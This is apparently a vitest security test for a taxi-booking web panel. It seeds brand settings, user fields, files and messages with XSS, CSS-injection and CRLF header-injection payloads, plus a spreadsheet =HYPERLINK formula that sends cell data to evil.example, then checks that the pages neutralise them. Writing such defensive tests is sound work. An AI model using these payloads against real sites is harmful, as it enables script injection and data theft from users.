import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { findAccount } from "../../../sandbox/test-client.ts";
import { screenRows } from "../../screens.ts";
import { addEmployee } from "../../services/companies.ts";
import { crawl, type Element, type FoundPage } from "../../services/crawl.ts";
import { addTraveller, visitAs } from "../../services/customers.ts";
import { type Panel, startPanel } from "../../services/panel.ts";
import { addPastTrips, addressOfTrip } from "../../services/past-trips.ts";
import { openTicket } from "../../services/tickets.ts";
import { bookTaxi, putInStatus } from "../../services/trips.ts";
import { createVisitor } from "../../services/visitor.ts";
import { textOf } from "../read-page.ts";

const HOST = "cantalmar.localhost";
/** Payloads that break out of text, attributes, titles, scripts, styles, comments and templates. */
const markup =
  `Zq'"><script>alert(1)</script><img src=x onerror=alert(1)></title></script></style>` +
  "--><svg/onload=alert(1)>{{7*7}}$\u007b7*7}\u2028";
const formula = '=HYPERLINK("http://evil.example/?"&A1,"Zq")';

let panel: Panel;
let guestPages: FoundPage[];
let memberPages: FoundPage[];
beforeAll(async () => {
  panel = await startPanel();
  const { world } = panel.sandbox;
  world.brands = world.brands.map((brand) => ({
    ...brand,
    name: markup,
    pageTitle: markup,
    phone: `+34600${markup}`,
    facebookLink: "javascript:alert(1)",
    twitterLink: 'https://social.example/"><script>alert(1)</script>',
    linkedinLink: "data:text/html,<script>alert(1)</script>",
    logo: "javascript:alert(1)",
    favicon: "data:text/html,<script>alert(1)</script>",
    style: {
      main_color: "red;}</style><script>alert(1)</script>",
      secondary_color: "url(https://evil.example/x)",
      main_background_color: "expression(alert(1))",
      menu_text_color: "#fff;background:url(//evil.example)",
      top_text_color: "var(--x)",
    },
    extras: [{ show: true, description: markup }],
    contents: brand.contents.map((content) => ({
      ...content,
      title: markup,
      html:
        `<p onclick="alert(1)" style="position:fixed">Zq</p><script>alert(1)</script>` +
        `<a href="javascript:alert(1)">a</a><a href="//evil.example">b</a><form action="//evil.example"><input name="password"></form>` +
        `<iframe src="//evil.example"></iframe><base href="//evil.example/"><meta http-equiv="refresh" content="0;url=//evil.example">` +
        `<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg><math><mi xlink:href="javascript:alert(1)">x</mi></math>` +
        `<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript><link rel="stylesheet" href="//evil.example">`,
    })),
  }));
  for (const driver of world.drivers) driver.name = markup;
  const { permissions } = findAccount(panel.sandbox, "company");
  const company = addTraveller(panel, 0, { role: "company", name: markup, permissions });
  for (const favourite of world.favourites.values()) {
    if (favourite.accountId === company.id) favourite.alias = markup;
  }
  addEmployee(panel, company, { name: markup });
  addEmployee(panel, company, { name: formula });
  const open = await bookTaxi(panel, company);
  putInStatus(panel, open, 3);
  const [past] = addPastTrips(panel.sandbox, company, 1);
  for (const trip of [open, past]) {
    if (!trip) continue;
    Object.assign(trip, { traveller: markup, serviceType: markup, paymentMethod: markup });
    Object.assign(trip.origin, { calle: markup, datosExtra: formula });
  }
  const { id: ticket } = openTicket(panel.sandbox, company, {
    subject: markup,
    files: [
      new File(["%PDF-1.4"], 'a"\r\nSet-Cookie: evil=1\r\n\r\n<script>.pdf', {
        type: "application/pdf",
      }),
    ],
  });
  const messageId = world.nextId();
  world.messages.set(messageId, {
    id: messageId,
    accountId: company.id,
    title: markup,
    text: `${markup} javascript:alert(1) https://evil.example/"onmouseover="alert(1)`,
    createdAt: world.clock.now(),
    read: false,
    promoId: null,
    ticketId: null,
  });

  const startsOf = (kind: "guest" | "company") =>
    screenRows
      .filter(({ kinds }) => kinds.includes(kind))
      .flatMap(({ paths }) =>
        paths(
          {
            ...{ trip: open.id, ticket, promo: 1, shop: 1, followed: "/follow/x" },
            ...{ series: "/series", readyLink: "/ready_links/x", ready: "/ready/x" },
          },
          HOST,
        ),
      );
  const guest = createVisitor(panel, HOST, { headers: { "accept-language": "en" } });
  guestPages = await crawl(guest, startsOf("guest"), 80);
  const member = await visitAs(panel, company);
  const receipts = past ? [`/history?${addressOfTrip(past)}`] : [];
  memberPages = await crawl(member, [...startsOf("company"), ...receipts], 200);
});
afterAll(() => panel.stop());

const addressNames = ["href", "src", "action", "formAction", "xLinkHref", "data", "poster"];

function leadsAway(address: string): boolean {
  const base = `http://${HOST}`;
  if (/^data:image\//.test(address) || !URL.canParse(address, base)) return false;
  const { protocol, host } = new URL(address, base);
  return !/^(https?|tel|mailto):$/.test(protocol) || host.endsWith("evil.example");
}

/** Everything in a page that a browser would run, or that would take the user to another site. */
function findHarm({ headers, elements, path }: FoundPage): string[] {
  const policy = String(headers["content-security-policy"]);
  const [, nonce] = policy.match(/'nonce-([^']+)'/) ?? [];
  const harm = (element: Element): unknown[] => {
    const { tagName, properties } = element;
    const isUnsigned = ["script", "style"].includes(tagName) && properties.nonce !== nonce;
    const isStrange = ["iframe", "object", "embed", "base", "math", "frame"].includes(tagName);
    const isRefresh =
      tagName === "meta" &&
      /url/i.test(String(properties.content ?? "")) &&
      String(properties.httpEquiv) === "refresh";
    const handlers = Object.keys(properties).filter((name) =>
      /^on[A-Z]|^on[a-z]|^style$/.test(name),
    );
    const leads = addressNames.filter((name) => leadsAway(String(properties[name] ?? "").trim()));
    return [
      ...(isUnsigned || isStrange || isRefresh ? [tagName] : []),
      ...handlers,
      ...leads.map((name) => properties[name]),
    ];
  };
  return elements.flatMap(harm).map((each) => `${path}: ${each}`);
}

describe("a brand with hostile configuration and hostile users", () => {
  it("still renders its pages", () => {
    for (const pages of [guestPages, memberPages]) {
      expect(pages.filter(({ status }) => status >= 500).map(({ path }) => path)).toEqual([]);
      const marked = pages.filter(({ html }) => textOf(html).includes("Zq'\"><script>"));
      expect(marked.length).toBeGreaterThan(10);
    }
  });

  it("runs no script, frames nothing and redirects to no other site on any page", () => {
    expect([...guestPages, ...memberPages].flatMap(findHarm)).toEqual([]);
  });

  it("puts nothing but colours into the styles", () => {
    const [page] = guestPages;
    const styles = page?.elements.filter(({ tagName }) => tagName === "style") ?? [];
    const text = styles.flatMap(({ children }) =>
      children.map((child) => ("value" in child ? child.value : "")),
    );
    expect(text.join("")).toContain("--main:#");
    expect(text.join("")).not.toMatch(/evil|expression|url\(|<\//);
  });
});

describe("downloaded files", () => {
  const fileOf = (type: string) =>
    memberPages.filter(({ headers }) => String(headers["content-type"]).startsWith(type));

  it("contain no spreadsheet formulas", () => {
    const tables = fileOf("text/csv");
    expect(tables.length).toBeGreaterThan(0);
    for (const { html, path } of tables) {
      expect(html, path).not.toMatch(/(^|[,;\n])"?[=+@-][^,;\d]/);
      expect(html, path).not.toMatch(/(^|[,;\n])"?=HYPERLINK/);
    }
    expect(tables.map(({ html }) => html).join("\n")).toContain("'=HYPERLINK");
  });

  it("have names that cannot break out of the header, and never run in the browser", () => {
    const files = memberPages.filter(({ headers }) => headers["content-disposition"]);
    expect(files.map(({ path }) => path).join("\n")).toContain("/attachments/");
    for (const { headers, path } of files) {
      expect(headers, path).not.toHaveProperty("set-cookie", expect.stringContaining("evil"));
      expect(headers["content-disposition"], path).toMatch(/^attachment; filename="[^"\r\n]*"/);
      expect(headers["content-disposition"], path).not.toMatch(/[<>\r\n]/);
      // A browser obeys every policy that it receives.
      const policies = [headers["content-security-policy"]].flat();
      expect(policies, path).toContain("default-src 'none'; sandbox");
      expect(headers["x-content-type-options"], path).toBe("nosniff");
    }
  });
});
